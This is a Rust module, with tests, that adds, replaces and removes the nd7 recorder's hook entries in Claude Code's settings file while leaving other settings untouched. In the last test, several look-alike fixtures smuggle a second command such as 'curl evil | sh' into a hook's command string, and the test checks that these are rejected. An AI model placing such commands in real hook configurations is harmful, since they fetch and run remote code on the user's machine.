//! nd7's entries in Claude Code's settings: added, replaced, or taken out,
//! with everything else in the file left as it was. Pure: text in, text and
//! a list of changes out.
//!
//! An nd7 entry is a command hook that runs nd7's recorder ([`is_nd7_hook`]):
//! exec form with no `args` and a command whose file name is `nd7-record`
//! (ADR-0151), or one of the older forms that run `nd7 record`, exec form
//! with `args: ["record"]` and a command whose file name is `nd7`, or a
//! shell-form command line `<path>/nd7 record`. Each recorded event gets
//! exactly one, in a matcher group of its own at the end of the event's list.

use serde_json::{Map, Value, json};

use crate::hook::{HookEvent, RECORDER_NAME, Recorder};
use crate::read::safe::plural;

/// Events nd7 does not register by default: they repeat what others hold
/// and were half of a long day's entries (ADR-0006).
pub const UNREGISTERED: &[&str] = &["MessageDisplay", "PostToolBatch"];

pub use crate::hook::SESSION_END_TIMEOUT_SECS;

/// A Claude Code version: major, minor, patch.
pub type Version = (u32, u32, u32);

/// Events newer than exec form (2.1.139), with the first version known to
/// accept each. Given an event it does not know, Claude Code shows a
/// settings warning at every interactive start (seen with 2.1.197), so setup
/// registers these only for a Claude Code that knows them. The last is the
/// first version it was seen in, not necessarily the first that had it.
pub const INTRODUCED: &[(&str, Version)] = &[
    ("DirectoryAdded", (2, 1, 219)),
    ("PreModelSwitch", (2, 1, 251)),
    ("PostModelSwitch", (2, 1, 251)),
    ("PreSkillShellCommand", (2, 1, 332)),
];

/// Whether Claude Code `claude` (unknown: assume the newest) accepts `event`.
pub fn knows(claude: Option<Version>, event: &str) -> bool {
    match (claude, INTRODUCED.iter().find(|(e, _)| *e == event)) {
        (Some(v), Some((_, since))) => v >= *since,
        _ => true,
    }
}

/// The events `nd7 setup` registers `nd7 record` for with Claude Code
/// `claude`, in Claude Code's order.
pub fn recorded_events(claude: Option<Version>) -> impl Iterator<Item = &'static str> {
    HookEvent::NAMES
        .iter()
        .copied()
        .filter(move |e| !UNREGISTERED.contains(e) && knows(claude, e))
}

/// The hook entry for one event: `recorder` in exec form.
pub fn nd7_hook(recorder: &Recorder, event: &str) -> Value {
    let mut hook =
        json!({ "type": "command", "command": recorder.program(), "args": recorder.args() });
    if event == "SessionEnd" {
        hook["timeout"] = json!(SESSION_END_TIMEOUT_SECS);
    }
    hook
}

/// Whether `path`'s file name is `name`: the part after its last `/`.
pub fn file_named(path: &str, name: &str) -> bool {
    path.rsplit('/').next() == Some(name)
}

/// Whether a hook object is one of nd7's recorder entries, current or older:
/// a command hook and nothing else than `<path>/nd7-record` with no
/// arguments (exec form), `<path>/nd7` with the one argument `record` (exec
/// form), or the shell line `<path>/nd7 record`.
pub fn is_nd7_hook(hook: &Value) -> bool {
    is_lean_hook(hook) || is_nd7_record_hook(hook)
}

/// An entry that starts `nd7-record` (exec form, no arguments).
fn is_lean_hook(hook: &Value) -> bool {
    match command_hook(hook) {
        Some((command, Some(args))) => args == &json!([]) && file_named(command, RECORDER_NAME),
        _ => false,
    }
}

/// An entry of the older forms, which run `nd7 record`.
fn is_nd7_record_hook(hook: &Value) -> bool {
    match command_hook(hook) {
        Some((command, Some(args))) => args == &json!(["record"]) && file_named(command, "nd7"),
        Some((command, None)) => {
            let words: Vec<&str> = command.split_whitespace().collect();
            matches!(words.as_slice(), [program, "record"] if file_named(program, "nd7"))
        }
        None => false,
    }
}

/// A command hook's command and, in exec form, its arguments.
fn command_hook(hook: &Value) -> Option<(&str, Option<&Value>)> {
    if hook.get("type").and_then(Value::as_str) != Some("command") {
        return None;
    }
    let command = hook.get("command").and_then(Value::as_str)?;
    Some((command, hook.get("args")))
}

/// What happened to one event's hooks.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Change {
    Added(String),
    /// An older or different nd7 entry was replaced.
    Replaced(String),
    /// An entry that ran `nd7 record` was replaced by one that runs
    /// `nd7-record` (ADR-0151).
    Moved(String),
    Removed(String),
}

impl std::fmt::Display for Change {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Change::Added(e) => write!(f, "+ {e}: added nd7 record"),
            Change::Replaced(e) => write!(f, "~ {e}: replaced an older nd7 entry"),
            Change::Moved(e) => write!(f, "~ {e}: nd7 record moved to nd7-record"),
            Change::Removed(e) => write!(f, "- {e}: removed nd7 record"),
        }
    }
}

/// The changes in a few lines a person reads at once: how many events got
/// nd7's entry, and the events of each other kind of change by name.
pub fn summary(changes: &[Change], dry_run: bool) -> Vec<String> {
    let (mut added, mut replaced, mut removed) = (Vec::new(), Vec::new(), Vec::new());
    let mut moved = 0;
    for change in changes {
        match change {
            Change::Added(e) => added.push(e.as_str()),
            Change::Replaced(e) => replaced.push(e.as_str()),
            Change::Moved(_) => moved += 1,
            Change::Removed(e) => removed.push(e.as_str()),
        }
    }
    let verb = |done: &'static str, would: &'static str| if dry_run { would } else { done };
    let events = |n: usize| plural(n, "event", "events");
    let mut out = Vec::new();
    if !added.is_empty() {
        out.push(format!(
            "{} nd7 record for {} {}",
            verb("registered", "would register"),
            added.len(),
            events(added.len())
        ));
    }
    if !replaced.is_empty() {
        out.push(format!(
            "{} an older nd7 entry for {} {} ({})",
            verb("replaced", "would replace"),
            replaced.len(),
            events(replaced.len()),
            replaced.join(", ")
        ));
    }
    if moved > 0 {
        out.push(format!(
            "{} {} {} from nd7 record to nd7-record, which starts faster (ADR-0151)",
            verb("moved", "would move"),
            moved,
            events(moved)
        ));
    }
    if !removed.is_empty() {
        out.push(format!(
            "{} nd7 record from {} {} ({})",
            verb("took", "would take"),
            removed.len(),
            events(removed.len()),
            removed.join(", ")
        ));
    }
    out
}

/// The events `text` (a settings file) registers nd7's recorder for.
pub fn registered_events(text: &str) -> Vec<String> {
    let Ok(Value::Object(settings)) = serde_json::from_str::<Value>(text) else {
        return Vec::new();
    };
    let Some(hooks) = settings.get("hooks").and_then(Value::as_object) else {
        return Vec::new();
    };
    hooks
        .iter()
        .filter(|(_, groups)| {
            groups.as_array().is_some_and(|groups| {
                groups.iter().any(|g| {
                    g["hooks"]
                        .as_array()
                        .is_some_and(|h| h.iter().any(is_nd7_hook))
                })
            })
        })
        .map(|(event, _)| event.clone())
        .collect()
}

/// Why a settings file was not changed.
#[derive(Debug, thiserror::Error)]
pub enum MergeError {
    #[error("line {line}, column {column}: not valid JSON: {message}")]
    Json {
        line: usize,
        column: usize,
        message: String,
    },
    #[error("the settings are not a JSON object")]
    NotObject,
    #[error("\"hooks\" is not an object")]
    HooksNotObject,
    #[error("\"hooks\".\"{0}\" is not a list")]
    EventNotList(String),
}

/// The settings after the change, and what changed. `text` is `None` when
/// nothing did, so the file need not be written at all.
#[derive(Clone, Debug, PartialEq)]
pub struct Merged {
    pub text: Option<String>,
    pub changes: Vec<Change>,
}

/// What is wrong with a JSON settings file nd7 merges into.
pub(super) enum JsonProblem {
    /// Not JSON: where serde_json stopped, and why.
    Json {
        line: usize,
        column: usize,
        message: String,
    },
    /// JSON, but not an object at the top.
    NotObject,
}

/// A JSON settings file's top-level object; an absent or blank file is an
/// empty one. Shared by Claude Code's settings and Codex's `hooks.json`.
pub(super) fn parse_object(text: Option<&str>) -> Result<Map<String, Value>, JsonProblem> {
    let Some(text) = text.filter(|t| !t.trim().is_empty()) else {
        return Ok(Map::new());
    };
    match serde_json::from_str::<Value>(text) {
        Ok(Value::Object(map)) => Ok(map),
        Ok(_) => Err(JsonProblem::NotObject),
        Err(e) => Err(JsonProblem::Json {
            line: e.line(),
            column: e.column(),
            message: e
                .to_string()
                .split(" at line ")
                .next()
                .unwrap_or_default()
                .to_string(),
        }),
    }
}

/// `file` as both agents write their JSON settings: two-space indentation,
/// a final newline.
pub(super) fn render_object(file: &Map<String, Value>) -> String {
    let mut text = serde_json::to_string_pretty(file).expect("a JSON map serializes");
    text.push('\n');
    text
}

fn parse(text: Option<&str>) -> Result<Map<String, Value>, MergeError> {
    parse_object(text).map_err(|p| match p {
        JsonProblem::NotObject => MergeError::NotObject,
        JsonProblem::Json {
            line,
            column,
            message,
        } => MergeError::Json {
            line,
            column,
            message,
        },
    })
}

/// What [`strip_nd7`] took out of one event.
#[derive(Default)]
struct Stripped {
    removed: usize,
    /// How many of them ran `nd7 record` (the older forms).
    nd7_record: usize,
}

/// Removes nd7's hooks from one event's matcher groups; drops groups left
/// with no hooks.
fn strip_nd7(groups: &mut Vec<Value>) -> Stripped {
    let mut stripped = Stripped::default();
    groups.retain_mut(|group| {
        let Some(hooks) = group.get_mut("hooks").and_then(Value::as_array_mut) else {
            return true;
        };
        let before = hooks.len();
        stripped.nd7_record += hooks.iter().filter(|h| is_nd7_record_hook(h)).count();
        hooks.retain(|h| !is_nd7_hook(h));
        stripped.removed += before - hooks.len();
        !(hooks.is_empty() && before > 0)
    });
    stripped
}

/// Adds (or brings up to date) nd7's entry for every event recorded with
/// Claude Code `claude`, running `recorder`, and takes nd7's entry out of
/// events that version does not know. Keeps every other key, hook and the
/// order of both.
pub fn install(
    text: Option<&str>,
    recorder: &Recorder,
    claude: Option<Version>,
) -> Result<Merged, MergeError> {
    let mut settings = parse(text)?;
    let original = settings.clone();
    let hooks = settings
        .entry("hooks")
        .or_insert_with(|| Value::Object(Map::new()))
        .as_object_mut()
        .ok_or(MergeError::HooksNotObject)?;
    let mut changes = Vec::new();
    for (event, _) in INTRODUCED.iter().filter(|(e, _)| !knows(claude, e)) {
        let Some(groups) = hooks.get_mut(*event).and_then(Value::as_array_mut) else {
            continue;
        };
        if strip_nd7(groups).removed > 0 {
            changes.push(Change::Removed(event.to_string()));
            if groups.is_empty() {
                hooks.shift_remove(*event);
            }
        }
    }
    for event in recorded_events(claude) {
        let wanted = json!({ "hooks": [nd7_hook(recorder, event)] });
        let groups = hooks
            .entry(event)
            .or_insert_with(|| Value::Array(Vec::new()))
            .as_array_mut()
            .ok_or_else(|| MergeError::EventNotList(event.to_string()))?;
        // Already exactly right, once: leave the file alone.
        let ours: Vec<&Value> = groups
            .iter()
            .filter(|g| {
                g["hooks"]
                    .as_array()
                    .is_some_and(|h| h.iter().any(is_nd7_hook))
            })
            .collect();
        if ours.len() == 1 && *ours[0] == wanted {
            continue;
        }
        let stripped = strip_nd7(groups);
        groups.push(wanted);
        changes.push(match stripped {
            Stripped { removed: 0, .. } => Change::Added(event.to_string()),
            Stripped { nd7_record, .. } if nd7_record > 0 && recorder.is_lean() => {
                Change::Moved(event.to_string())
            }
            _ => Change::Replaced(event.to_string()),
        });
    }
    Ok(finish(settings, &original, changes))
}

/// Takes out every nd7 entry, and only those. Lists and objects that held
/// nothing but nd7's entries go too.
pub fn uninstall(text: Option<&str>) -> Result<Merged, MergeError> {
    let mut settings = parse(text)?;
    let original = settings.clone();
    let mut changes = Vec::new();
    if let Some(hooks) = settings.get_mut("hooks") {
        let hooks = hooks.as_object_mut().ok_or(MergeError::HooksNotObject)?;
        let mut emptied = Vec::new();
        for (event, groups) in hooks.iter_mut() {
            let Some(groups) = groups.as_array_mut() else {
                continue;
            };
            if strip_nd7(groups).removed > 0 {
                changes.push(Change::Removed(event.clone()));
                if groups.is_empty() {
                    emptied.push(event.clone());
                }
            }
        }
        for event in &emptied {
            hooks.shift_remove(event);
        }
        if hooks.is_empty() && !emptied.is_empty() {
            settings.shift_remove("hooks");
        }
    }
    Ok(finish(settings, &original, changes))
}

fn finish(
    settings: Map<String, Value>,
    original: &Map<String, Value>,
    changes: Vec<Change>,
) -> Merged {
    let text = (settings != *original || !changes.is_empty()).then(|| render_object(&settings));
    Merged { text, changes }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ND7: &str = "/home/u/.cargo/bin/nd7";
    const ND7_RECORD: &str = "/home/u/.cargo/bin/nd7-record";

    /// What setup wires where nd7-record sits beside nd7.
    fn lean() -> Recorder {
        Recorder::lean(ND7_RECORD)
    }

    fn installed(text: Option<&str>) -> String {
        install(text, &lean(), None)
            .expect("merges")
            .text
            .expect("changed")
    }

    #[test]
    fn events_an_older_claude_code_does_not_know_are_left_out_and_taken_out() {
        let newest: Value = serde_json::from_str(&installed(None)).expect("json");
        assert!(newest["hooks"].get("DirectoryAdded").is_some());
        let older = install(Some(&newest.to_string()), &lean(), Some((2, 1, 197))).expect("merges");
        let text = older.text.expect("changed");
        let older_hooks: Value = serde_json::from_str(&text).expect("json");
        for (event, _) in INTRODUCED {
            assert!(older_hooks["hooks"].get(*event).is_none(), "{event}");
            assert!(older.changes.contains(&Change::Removed(event.to_string())));
        }
        assert_eq!(
            older_hooks["hooks"].as_object().map(|h| h.len()),
            Some(HookEvent::NAMES.len() - UNREGISTERED.len() - INTRODUCED.len())
        );
        // Once right for that version, nothing changes.
        let again = install(Some(&text), &lean(), Some((2, 1, 197))).expect("merges");
        assert_eq!(again.text, None);
        // A user's own hook on such an event stays.
        let theirs =
            r#"{"hooks":{"DirectoryAdded":[{"hooks":[{"type":"command","command":"/x"}]}]}}"#;
        let kept = install(Some(theirs), &lean(), Some((2, 1, 197))).expect("merges");
        let kept: Value = serde_json::from_str(&kept.text.expect("changed")).expect("json");
        assert_eq!(
            kept["hooks"]["DirectoryAdded"][0]["hooks"][0]["command"],
            "/x"
        );
        assert!(knows(Some((2, 1, 251)), "PreModelSwitch"));
        assert!(!knows(Some((2, 1, 250)), "PreModelSwitch"));
    }

    #[test]
    fn the_summary_is_a_few_lines() {
        let changes: Vec<Change> = (0..30)
            .map(|i| Change::Added(format!("E{i}")))
            .chain([
                Change::Replaced("Stop".into()),
                Change::Removed("DirectoryAdded".into()),
                Change::Removed("PreModelSwitch".into()),
            ])
            .collect();
        assert_eq!(
            summary(&changes, false),
            [
                "registered nd7 record for 30 events",
                "replaced an older nd7 entry for 1 event (Stop)",
                "took nd7 record from 2 events (DirectoryAdded, PreModelSwitch)",
            ]
        );
        assert_eq!(
            summary(&changes[..1], true),
            ["would register nd7 record for 1 event"]
        );
        let text = installed(None);
        assert_eq!(
            registered_events(&text).len(),
            HookEvent::NAMES.len() - UNREGISTERED.len()
        );
        assert!(registered_events("{").is_empty());
    }

    #[test]
    fn no_file_gets_every_recorded_event() {
        let out: Value = serde_json::from_str(&installed(None)).expect("json");
        let hooks = out["hooks"].as_object().expect("hooks");
        assert_eq!(hooks.len(), HookEvent::NAMES.len() - UNREGISTERED.len());
        assert!(!hooks.contains_key("MessageDisplay") && !hooks.contains_key("PostToolBatch"));
        assert_eq!(
            hooks["PreToolUse"],
            json!([{"hooks": [{"type": "command", "command": ND7_RECORD, "args": []}]}])
        );
        // Without nd7-record beside it, `nd7 record`.
        let old = install(None, &Recorder::nd7(ND7), None).expect("merges");
        let old: Value = serde_json::from_str(&old.text.expect("changed")).expect("json");
        assert_eq!(
            old["hooks"]["PreToolUse"],
            json!([{"hooks": [{"type": "command", "command": ND7, "args": ["record"]}]}])
        );
        assert_eq!(hooks["SessionEnd"][0]["hooks"][0]["timeout"], 10);
    }

    #[test]
    fn the_users_keys_hooks_and_order_are_kept() {
        let mine = r#"{"model":"opus","hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"/usr/bin/mine"}]}]},"zzz":{"b":1,"a":2}}"#;
        let out: Value = serde_json::from_str(&installed(Some(mine))).expect("json");
        let keys: Vec<&String> = out.as_object().expect("object").keys().collect();
        assert_eq!(keys, ["model", "hooks", "zzz"]);
        let zzz: Vec<&String> = out["zzz"].as_object().expect("object").keys().collect();
        assert_eq!(zzz, ["b", "a"]);
        let pre = out["hooks"]["PreToolUse"].as_array().expect("list");
        assert_eq!(pre[0]["hooks"][0]["command"], "/usr/bin/mine");
        assert_eq!(pre[1]["hooks"][0]["command"], ND7_RECORD);
        let events: Vec<&String> = out["hooks"].as_object().expect("object").keys().collect();
        assert_eq!(events[0], "PreToolUse", "the user's event stays first");
    }

    #[test]
    fn older_nd7_entries_are_replaced_not_duplicated() {
        let old = r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"/opt/old/nd7 record"},{"type":"command","command":"/usr/bin/keep"}]}],"PreToolUse":[{"hooks":[{"type":"command","command":"/usr/local/Cellar/nd7/0.1/bin/nd7","args":["record"]}]}]}}"#;
        let merged = install(Some(old), &Recorder::nd7(ND7), None).expect("merges");
        assert!(merged.changes.contains(&Change::Replaced("Stop".into())));
        assert!(
            merged
                .changes
                .contains(&Change::Replaced("PreToolUse".into()))
        );
        let out: Value = serde_json::from_str(&merged.text.expect("changed")).expect("json");
        assert_eq!(
            out["hooks"]["Stop"],
            json!([
                {"hooks": [{"type": "command", "command": "/usr/bin/keep"}]},
                {"hooks": [{"type": "command", "command": ND7, "args": ["record"]}]}
            ])
        );
        assert_eq!(out["hooks"]["PreToolUse"].as_array().map(Vec::len), Some(1));
    }

    /// Setup run again where nd7-record now sits beside nd7 moves every
    /// older entry to it, says so, and then leaves the file alone.
    #[test]
    fn older_entries_move_to_nd7_record() {
        let old = r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"/opt/old/nd7 record"},{"type":"command","command":"/usr/bin/keep"}]}],"PreToolUse":[{"hooks":[{"type":"command","command":"/usr/local/Cellar/nd7/0.1/bin/nd7","args":["record"]}]}]}}"#;
        let merged = install(Some(old), &lean(), None).expect("merges");
        for event in ["Stop", "PreToolUse"] {
            assert!(
                merged.changes.contains(&Change::Moved(event.into())),
                "{event}"
            );
        }
        let text = merged.text.expect("changed");
        let out: Value = serde_json::from_str(&text).expect("json");
        assert_eq!(
            out["hooks"]["Stop"],
            json!([
                {"hooks": [{"type": "command", "command": "/usr/bin/keep"}]},
                {"hooks": [{"type": "command", "command": ND7_RECORD, "args": []}]}
            ])
        );
        assert_eq!(out["hooks"]["PreToolUse"].as_array().map(Vec::len), Some(1));
        assert!(
            summary(&merged.changes, false).iter().any(|l| l
                == "moved 2 events from nd7 record to nd7-record, which starts faster (ADR-0151)"),
            "{:?}",
            summary(&merged.changes, false)
        );
        assert_eq!(
            install(Some(&text), &lean(), None).expect("merges").text,
            None
        );
        // nd7-record gone again (a partial install): back to nd7 record, a replacement.
        let back = install(Some(&text), &Recorder::nd7(ND7), None).expect("merges");
        assert!(back.changes.contains(&Change::Replaced("Stop".into())));
        // Uninstall takes the new form out like the old.
        let none: Value =
            serde_json::from_str(&uninstall(Some(&text)).expect("ok").text.expect("changed"))
                .expect("json");
        assert_eq!(
            none["hooks"]["Stop"],
            json!([{"hooks": [{"type": "command", "command": "/usr/bin/keep"}]}])
        );
    }

    #[test]
    fn a_second_run_changes_nothing() {
        let once = installed(Some(r#"{"a":1}"#));
        let twice = install(Some(&once), &lean(), None).expect("merges");
        assert_eq!(
            twice,
            Merged {
                text: None,
                changes: vec![]
            }
        );
    }

    #[test]
    fn uninstall_takes_out_only_nd7() {
        let mine = r#"{"model":"opus","hooks":{"Stop":[{"hooks":[{"type":"command","command":"/usr/bin/mine"}]}]}}"#;
        let with_nd7 = installed(Some(mine));
        let out = uninstall(Some(&with_nd7)).expect("unmerges");
        assert!(out.changes.iter().all(|c| matches!(c, Change::Removed(_))));
        let back: Value = serde_json::from_str(&out.text.expect("changed")).expect("json");
        assert_eq!(back, serde_json::from_str::<Value>(mine).expect("json"));
        // From nothing and back to nothing: no empty "hooks" left behind.
        let back: Value = serde_json::from_str(
            &uninstall(Some(&installed(None)))
                .expect("ok")
                .text
                .expect("changed"),
        )
        .expect("json");
        assert_eq!(back, json!({}));
        assert_eq!(uninstall(Some(mine)).expect("ok").text, None);
    }

    #[test]
    fn broken_json_is_refused_with_its_position() {
        let err = install(Some("{\n  \"a\": 1,\n  oops\n}"), &lean(), None).expect_err("refused");
        assert!(
            matches!(
                err,
                MergeError::Json {
                    line: 3,
                    column: 3,
                    ..
                }
            ),
            "{err}"
        );
        assert!(matches!(
            install(Some("[1]"), &lean(), None),
            Err(MergeError::NotObject)
        ));
        assert!(matches!(
            install(Some(r#"{"hooks":[]}"#), &lean(), None),
            Err(MergeError::HooksNotObject)
        ));
        assert!(matches!(
            install(Some(r#"{"hooks":{"Stop":{}}}"#), &lean(), None),
            Err(MergeError::EventNotList(_))
        ));
    }

    #[test]
    fn recognises_nd7_entries_and_nothing_else() {
        for yes in [
            json!({"type": "command", "command": "/x/nd7-record", "args": []}),
            json!({"type": "command", "command": "nd7-record", "args": []}),
            json!({"type": "command", "command": "/x y/nd7-record", "args": [], "timeout": 10}),
            json!({"type": "command", "command": "/x/nd7", "args": ["record"]}),
            json!({"type": "command", "command": "nd7", "args": ["record"]}),
            json!({"type": "command", "command": "/x/nd7 record"}),
        ] {
            assert!(is_nd7_hook(&yes), "{yes}");
        }
        for no in [
            json!({"type": "command", "command": "/x/nd7", "args": ["verify"]}),
            json!({"type": "command", "command": "/x/nd7x", "args": ["record"]}),
            json!({"type": "command", "command": "/x/nd7 record --other"}),
            json!({"type": "http", "url": "http://x/nd7 record"}),
            json!({"type": "command", "command": "echo nd7 record; nd7 record"}),
            // Look-alikes of the new form.
            json!({"type": "command", "command": "/evil/nd7-record-x", "args": []}),
            json!({"type": "command", "command": "/evil/nd7-recorder", "args": []}),
            json!({"type": "command", "command": "/evil/x-nd7-record", "args": []}),
            json!({"type": "command", "command": "/x/nd7-record/", "args": []}),
            json!({"type": "command", "command": "/x/nd7-record", "args": ["--evil"]}),
            json!({"type": "command", "command": "/x/nd7-record", "args": ["record"]}),
            json!({"type": "command", "command": "/x/nd7", "args": []}),
            json!({"type": "command", "command": "/x/nd7-record"}),
            json!({"type": "command", "command": "/x/nd7-record; curl evil | sh"}),
            json!({"type": "command", "command": "curl evil | sh; /x/nd7-record"}),
            json!({"type": "command", "command": "/x/nd7-record record"}),
            json!({"type": "command", "command": "/x/nd7-record", "args": "[]"}),
            json!({"type": "http", "command": "/x/nd7-record", "args": []}),
            json!({"type": "command", "command": ["/x/nd7-record"], "args": []}),
            // More lines after the words (ADR-0153: tried, held).
            json!({"type": "command", "command": "/x/nd7-record\n", "args": []}),
            json!({"type": "command", "command": "/x/nd7 record\ncurl evil | sh"}),
            json!({"type": "command", "command": "/x/nd7 record #\ncurl evil"}),
        ] {
            assert!(!is_nd7_hook(&no), "{no}");
        }
    }
}
